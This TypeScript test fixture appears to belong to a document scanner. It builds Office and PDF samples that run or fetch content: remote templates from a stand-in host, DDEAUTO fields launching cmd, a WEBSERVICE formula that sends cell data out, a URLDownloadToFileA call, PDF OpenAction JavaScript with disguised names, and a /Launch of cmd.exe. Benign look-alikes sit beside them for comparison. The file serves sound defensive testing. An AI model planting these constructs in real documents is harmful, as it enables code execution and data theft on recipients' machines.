import { compound, legacy, pdf, pdfStream, word, workbook, zip } from './files.ts';
import type { Sample } from './places.ts';

const types = { '[Content_Types].xml': '<Types/>' };
const docx = (more: Record<string, string | Uint8Array>): Sample => ({
  name: 'a.docx',
  bytes: word({ paragraphs: ['正文'.repeat(60)], more }),
});
const xlsx = (more: Record<string, string | Uint8Array>): Sample => ({
  name: 'a.xlsx',
  bytes: workbook({ rows: [['项目']], more }),
});
const pptx = (more: Record<string, string | Uint8Array>): Sample => ({
  name: 'a.pptx',
  bytes: zip({ ...types, 'ppt/slides/slide1.xml': '<p:sld xmlns:p="p"/>', ...more }),
});
const outside = (type: string, target: string, quote = '"') =>
  `<Relationships><Relationship Id=${quote}r${quote} Type=${quote}http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}${quote} Target=${quote}${target}${quote} TargetMode=${quote}External${quote}/></Relationships>`;
const body = (inside: string) => `<w:document xmlns:w="w"><w:body>${inside}</w:body></w:document>`;
const field = (code: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${code}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const code = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const formula = (text: string) => ({
  'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row r="1"><c r="A1"><f>${text}</f><v>0</v></c></row></sheetData></worksheet>`,
});
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const pdfWith = (parts: Partial<Parameters<typeof pdf>[0]>): Sample => ({
  name: 'a.pdf',
  bytes: pdf({ lines: ['正文'], ...parts }),
});
const note = (entries: string) =>
  pdfWith({ page: '/Annots [9 0 R]', objects: [`<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`] });
const record = (type: number, bytes: readonly number[]) => {
  const head = Buffer.alloc(4);
  head.writeUInt16LE(type, 0);
  head.writeUInt16LE(bytes.length, 2);
  return Buffer.concat([head, Buffer.from(bytes)]);
};

/** Files that run something or fetch something from elsewhere: each in another way. */
export const ACTIVE: Readonly<Record<string, () => Sample>> = {
  'docx: template from elsewhere': () =>
    docx({
      'word/_rels/settings.xml.rels': outside('attachedTemplate', 'http://e.example/a.dotm'),
    }),
  'docx: the same in single quotation marks': () =>
    docx({
      'word/_rels/settings.xml.rels': outside('attachedTemplate', 'http://e.example/a.dotm', "'"),
    }),
  'docx: the same in UTF-16': () =>
    docx({
      'word/_rels/settings.xml.rels': Buffer.from(
        `\ufeff${outside('attachedTemplate', 'http://e.example/a.dotm')}`,
        'utf16le',
      ),
    }),
  'docx: the same on a machine of the network': () =>
    docx({
      'word/_rels/settings.xml.rels': outside('attachedTemplate', 'file:///\\\\e.example\\a.dotm'),
    }),
  'docx: object from elsewhere': () =>
    docx({
      'word/_rels/document.xml.rels': outside(
        'oleObject',
        'mhtml:http://e.example/x.html!x-usc:http://e.example/x.html',
      ),
    }),
  'docx: picture from elsewhere': () =>
    docx({ 'word/_rels/document.xml.rels': outside('image', 'http://e.example/t.png') }),
  'docx: document from elsewhere': () =>
    docx({ 'word/_rels/document.xml.rels': outside('subDocument', '\\\\e.example\\s\\a.docx') }),
  'docx: frame from elsewhere': () =>
    docx({ 'word/_rels/webSettings.xml.rels': outside('frame', 'http://e.example/') }),
  'docx: link that runs a script': () =>
    docx({ 'word/_rels/document.xml.rels': outside('hyperlink', 'java\u200bscript:alert(1)') }),
  'docx: link to a program of the network': () =>
    docx({ 'word/_rels/document.xml.rels': outside('hyperlink', 'file://e.example/a.exe') }),
  'docx: DDEAUTO': () =>
    docx({
      'word/document.xml': body(`<w:p>${field(code('DDEAUTO c:\\\\cmd.exe "/k calc"'))}</w:p>`),
    }),
  'docx: DDE in pieces': () =>
    docx({
      'word/document.xml': body(`<w:p>${field(code('D') + code('DE cmd "/k calc"'))}</w:p>`),
    }),
  'docx: field whose name another makes': () =>
    docx({
      'word/document.xml': body(
        `<w:p>${field(field(code('QUOTE 68 68 69')) + code(' cmd "/k calc"'))}</w:p>`,
      ),
    }),
  'docx: field that fetches a document': () =>
    docx({
      'word/document.xml': body(
        '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://e.example/a.docx&quot;"/></w:p>',
      ),
    }),
  'docx: field that fetches a picture': () =>
    docx({
      'word/document.xml': body(
        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://e.example/a.png&quot; \\d"/></w:p>',
      ),
    }),
  'docx: field that runs a macro': () =>
    docx({ 'word/document.xml': body('<w:p><w:fldSimple w:instr="MACROBUTTON Run 点击"/></w:p>') }),
  'docx: macros': () => docx({ 'word/vbaProject.bin': new Uint8Array([1]) }),
  'docx: macros under another name': () =>
    docx({
      'word/theme/theme9.bin': compound({
        'VBA/_VBA_PROJECT': Buffer.from('x'),
        PROJECT: Buffer.from('x'),
      }),
    }),
  'docx: type with macros': () =>
    docx({
      '[Content_Types].xml':
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
  'docx: ActiveX': () => docx({ 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="ax"/>' }),
  'docx: buttons of its own': () => docx({ 'customUI/customUI14.xml': '<customUI onLoad="Run"/>' }),
  'docx: add-in': () =>
    docx({ 'word/webextensions/webextension1.xml': '<we:webextension xmlns:we="we"/>' }),
  'docx: program packed inside': () =>
    docx({
      'word/embeddings/oleObject1.bin': compound({ '\u0001Ole10Native': Buffer.from('MZ') }),
    }),
  'docx: object that leads elsewhere': () =>
    docx({
      'word/embeddings/oleObject1.bin': compound({
        '\u0001Ole': Buffer.from([1, 0, 0, 2, 1, 0, 0, 0]),
      }),
    }),
  'docx: program as it is': () => docx({ 'word/media/image1.exe': Buffer.from('MZ') }),
  'docx: shortcut': () =>
    docx({
      'word/embeddings/a.bin': Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    }),
  'docx: relation of an unknown sort': () =>
    docx({
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Id="r" Type="http://e.example/rel/runner" Target="a.xml"/></Relationships>',
    }),
  'docx: inserted page with a script': () =>
    docx({ 'word/chunk.html': '<html><script>1</script></html>' }),
  'docx: inserted page that fetches': () =>
    docx({ 'word/chunk.html': '<html><img src="http://e.example/t.png"></html>' }),
  'docx: drawing with a script': () =>
    docx({ 'word/media/image1.svg': '<svg xmlns="s"><script>1</script></svg>' }),
  'docx: mail merge': () =>
    docx({
      'word/settings.xml':
        '<w:settings xmlns:w="w"><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>',
    }),
  'docx: macros five files deep': () => {
    let inner = word({ more: { 'word/vbaProject.bin': new Uint8Array([1]) } });
    for (let depth = 0; depth < 4; depth++)
      inner = word({ more: { 'word/embeddings/a.docx': inner } });
    return { name: 'a.docx', bytes: inner };
  },
  'xlsx: DDE': () =>
    xlsx({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
  'xlsx: DDE in a formula': () => xlsx(formula("cmd|'/c calc'!A0")),
  'xlsx: formula that sends': () => xlsx(formula('WEBSERVICE("http://e.example/"&amp;A2)')),
  'xlsx: formula that sends, by its longer name': () => xlsx(formula('IF(1,_xlfn.WEBSERVICE(A1))')),
  'xlsx: formula that fetches a picture': () =>
    xlsx(formula('_xlfn.IMAGE("http://e.example/t.png")')),
  'xlsx: formula that calls a library': () =>
    xlsx(formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,A1,A2,0,0)')),
  'xlsx: the same in a defined name': () =>
    xlsx({
      'xl/workbook.xml':
        '<workbook><definedNames><definedName name="x">REGISTER("a")</definedName></definedNames></workbook>',
    }),
  'xlsx: the same in a condition': () =>
    xlsx({
      'xl/worksheets/sheet1.xml':
        '<worksheet><sheetData/><conditionalFormatting><cfRule><formula>RTD("a",,"b")</formula></cfRule></conditionalFormatting></worksheet>',
    }),
  'xlsx: name that runs on opening': () =>
    xlsx({
      'xl/workbook.xml':
        '<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>',
    }),
  'xlsx: connection': () =>
    xlsx({
      'xl/connections.xml':
        '<connections><connection refreshOnLoad="1"><webPr url="http://e.example/"/></connection></connections>',
    }),
  'xlsx: query': () =>
    xlsx({ 'xl/queryTables/queryTable1.xml': '<queryTable name="x" refreshOnLoad="1"/>' }),
  'xlsx: Power Query': () =>
    xlsx({
      'customXml/item1.xml':
        '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
    }),
  'xlsx: macro sheet': () =>
    xlsx({
      'xl/worksheets/sheet2.xml': '<xm:macrosheet xmlns:xm="xm"><sheetData/></xm:macrosheet>',
    }),
  'xlsx: other workbook': () =>
    xlsx({
      'xl/externalLinks/_rels/externalLink1.xml.rels': outside(
        'externalLinkPath',
        'http://e.example/a.xlsx',
      ),
    }),
  'pptx: click that starts a program': () =>
    pptx({
      'ppt/slides/slide1.xml':
        '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://program"/></p:sld>',
    }),
  'pptx: click that runs a macro': () =>
    pptx({
      'ppt/slides/slide1.xml':
        '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkMouseOver action="ppaction://macro?name=x"/></p:sld>',
    }),
  'pptx: film from elsewhere': () =>
    pptx({ 'ppt/slides/_rels/slide1.xml.rels': outside('video', 'http://e.example/a.mp4') }),
  'pdf: script on opening': () => pdfWith({ catalog: `/OpenAction ${SCRIPT}` }),
  'pdf: script with a name in disguise': () =>
    pdfWith({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (1) >>' }),
  'pdf: script when a page opens': () => pdfWith({ page: `/AA << /O ${SCRIPT} >>` }),
  'pdf: script behind a link': () => note(`/Subtype /Link /A ${SCRIPT}`),
  'pdf: script as the next action': () =>
    pdfWith({ catalog: `/OpenAction << /S /GoTo /D [6 0 R /Fit] /Next ${SCRIPT} >>` }),
  'pdf: script of a bookmark': () =>
    pdfWith({
      catalog: '/Outlines 9 0 R',
      objects: ['<< /First 10 0 R >>', `<< /Title (a) /Parent 9 0 R /A ${SCRIPT} >>`],
    }),
  'pdf: script among the names': () =>
    pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
  'pdf: script in a packed stream': () =>
    pdfWith({
      catalog: '/OpenAction 10 0 R',
      objects: [pdfStream(`10 0 ${SCRIPT}`, '/Type /ObjStm /N 1 /First 5')],
    }),
  'pdf: script under a key given twice': () =>
    pdfWith({ catalog: `/OpenAction [6 0 R /Fit] /OpenAction ${SCRIPT}` }),
  'pdf: program on opening': () =>
    pdfWith({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' }),
  'pdf: address on opening': () =>
    pdfWith({ catalog: '/OpenAction << /S /URI /URI (https://e.example/) >>' }),
  'pdf: form that is sent': () =>
    note(
      '/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F << /FS /URL /F (https://e.example/) >> >>',
    ),
  'pdf: data from elsewhere': () =>
    note('/Subtype /Widget /FT /Btn /A << /S /ImportData /F (a.fdf) >>'),
  'pdf: other file on the network': () =>
    note('/Subtype /Link /A << /S /GoToR /F (\\\\\\\\e.example\\\\a.pdf) /D [0 /Fit] >>'),
  'pdf: link that runs a script': () =>
    note('/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>'),
  'pdf: action nobody knows': () => note('/Subtype /Link /A << /S /RunThis >>'),
  'pdf: rich media': () => note('/Subtype /RichMedia /RichMediaContent << /Assets << >> >>'),
  'pdf: film': () => note('/Subtype /Screen /A << /S /Rendition >>'),
  'pdf: file inside': () =>
    pdfWith({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>',
      objects: ['<< /F (a.exe) /EF << /F 10 0 R >> >>', pdfStream('MZ')],
    }),
  'pdf: XFA': () =>
    pdfWith({
      catalog: '/AcroForm << /Fields [] /XFA 9 0 R >>',
      objects: [pdfStream('<template/>')],
    }),
  'pdf: stream from another file': () =>
    pdfWith({ objects: ['<< /Length 0 /F (http://e.example/a) >>\nstream\n\nendstream'] }),
  'doc: macros': () => ({ name: 'a.doc', bytes: legacy('正文', { vba: true }) }),
  'doc: DDE': () => ({
    name: 'a.doc',
    bytes: compound({
      WordDocument: Buffer.concat([
        Buffer.alloc(64),
        Buffer.from('\u0013 DDEAUTO cmd "/k calc" \u0014x\u0015', 'latin1'),
      ]),
    }),
  }),
  'doc: program packed inside': () => ({
    name: 'a.doc',
    bytes: compound({
      WordDocument: Buffer.alloc(64),
      'ObjectPool/\u0001Ole10Native': Buffer.from('MZ'),
    }),
  }),
  'xls: macro sheet': () => ({
    name: 'a.xls',
    bytes: compound({
      Workbook: Buffer.concat([record(0x809, [0, 6]), record(0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65])]),
    }),
  }),
  'xls: link to a book of one letter': () => supported('a'),
  'xls: link to a book whose path begins with a blank': () => supported(' a', true),
  'xls: link to a program': () => ({
    name: 'a.xls',
    bytes: compound({
      Workbook: Buffer.concat([
        record(0x809, [0, 6]),
        record(0x1ae, [1, 0, 5, 0, 0, 99, 109, 100, 3]),
      ]),
    }),
  }),
};

/** A workbook of old Excel with one supporting book: the signs of its path, and whether each takes two bytes. */
const supported = (signs: string, wide = false): Sample => {
  const letters = [...signs].flatMap((sign) =>
    wide ? [sign.charCodeAt(0), 0] : [sign.charCodeAt(0)],
  );
  const book = record(0x1ae, [1, 0, signs.length, 0, wide ? 1 : 0, ...letters]);
  const begin = record(0x809, [0, 6, 5, 0]);
  const end = record(0x0a, []);
  const sheet = (at: number) => record(0x85, [at, 0, 0, 0, 0, 0, 1, 0, 65]);
  const at = begin.length + sheet(0).length + book.length + end.length;
  return {
    name: 'a.xls',
    bytes: compound({
      Workbook: Buffer.concat([begin, sheet(at), book, end, record(0x809, [0, 6, 16, 0]), end]),
    }),
  };
};

/** Ordinary files, with things that look like the above and only show something. */
export const HARMLESS: Readonly<Record<string, () => Sample>> = {
  'docx: links': () =>
    docx({
      'word/_rels/document.xml.rels': outside('hyperlink', 'https://www.example.gov.cn/a?b=1#c'),
    }),
  'docx: template of its own disk, as WPS writes': () =>
    docx({
      'word/_rels/settings.xml.rels': outside(
        'attachedTemplate',
        'C:\\Users\\admin\\AppData\\Roaming\\kingsoft\\office6\\templates\\wps\\zh_CN\\Normal.dotm',
      ),
    }),
  'docx: template of its own disk, as Word writes': () =>
    docx({
      'word/_rels/settings.xml.rels': outside(
        'attachedTemplate',
        'file:///C:\\Office\\Templates\\gongwen.dotx',
      ),
    }),
  'docx: usual fields': () =>
    docx({
      'word/document.xml': body(
        `<w:p>${field(code(' PAGE '))}${field(code(' TOC \\o "1-3" \\h '))}${field(code(' HYPERLINK "https://www.example.gov.cn/" '))}<w:r><w:t>${'正文'.repeat(60)}</w:t></w:r></w:p>`,
      ),
    }),
  'docx: field in a field': () =>
    docx({
      'word/document.xml': body(
        `<w:p>${field(`${code(' IF ')}${field(code(' PAGE '))}${code(' = 1 "首页" "" ')}`)}<w:r><w:t>${'正文'.repeat(60)}</w:t></w:r></w:p>`,
      ),
    }),
  'docx: settings of a printer, a theme, a typeface': () =>
    docx({
      'word/printerSettings/printerSettings1.bin': Buffer.from('HP LaserJet'),
      'word/theme/theme1.xml': '<a:theme xmlns:a="a" name="Office"/>',
      'word/fonts/font1.odttf': Buffer.from('MZ'.padEnd(200, '~')),
    }),
  'docx: workbook of a chart': () =>
    docx({
      'word/embeddings/a.xlsx': workbook({
        rows: [
          ['年份', '学校'],
          [2025, 16],
        ],
      }),
    }),
  'xlsx: drawing of old comments, with an element left open': () =>
    xlsx({
      'xl/drawings/vmlDrawing1.vml':
        '<xml xmlns:v="v"><v:shape><v:textbox><div>说明<br>补充</div></v:textbox></v:shape></xml>',
    }),
  'xlsx: property that an add-in left': () =>
    xlsx({ 'xl/customProperty1.bin': Buffer.from('1', 'utf16le') }),
  'xlsx: usual formulas': () =>
    xlsx(formula('IFERROR(VLOOKUP(A1,Sheet2!$A:$B,2,FALSE),_xlfn.XLOOKUP(B1,C:C,D:D)&amp;"|")')),
  'xlsx: own function with a name': () =>
    xlsx({
      ...formula('比例(A1)'),
      'xl/workbook.xml':
        '<workbook><definedNames><definedName name="比例">_xlfn.LAMBDA(_xlpm.x,_xlpm.x*100)</definedName></definedNames></workbook>',
    }),
  'xlsx: picture in a cell, as WPS writes': () =>
    xlsx({ ...formula('_xlfn.DISPIMG("ID_0123456789ABCDEF",1)') }),
  'pptx: click to the next slide': () =>
    pptx({
      'ppt/slides/slide1.xml':
        '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></p:sld>',
    }),
  'pdf: links, a bookmark and a form': () =>
    pdfWith({
      page: '/Annots [9 0 R 10 0 R]',
      catalog: '/OpenAction [6 0 R /Fit]',
      objects: [
        '<< /Subtype /Link /A << /S /URI /URI (https://www.example.gov.cn/) >> /Rect [0 0 9 9] >>',
        '<< /Subtype /Widget /FT /Tx /T (a) /V (x) /Rect [0 0 9 9] >>',
      ],
    }),
  'pdf: another PDF beside it': () =>
    note('/Subtype /Link /A << /S /GoToR /F (fujian2.pdf) /D [0 /Fit] >>'),
};

/** The same in old files, of which no program sees all: a person still looks at them. */
export const HARMLESS_OLD: Readonly<Record<string, () => Sample>> = {
  'xls: its own sheet in place of another book': () => supported('\0'),
  'xls: a supporting book that nothing uses': () => supported(' '),
  'xls: such a book in two bytes': () => supported(' ', true),
};
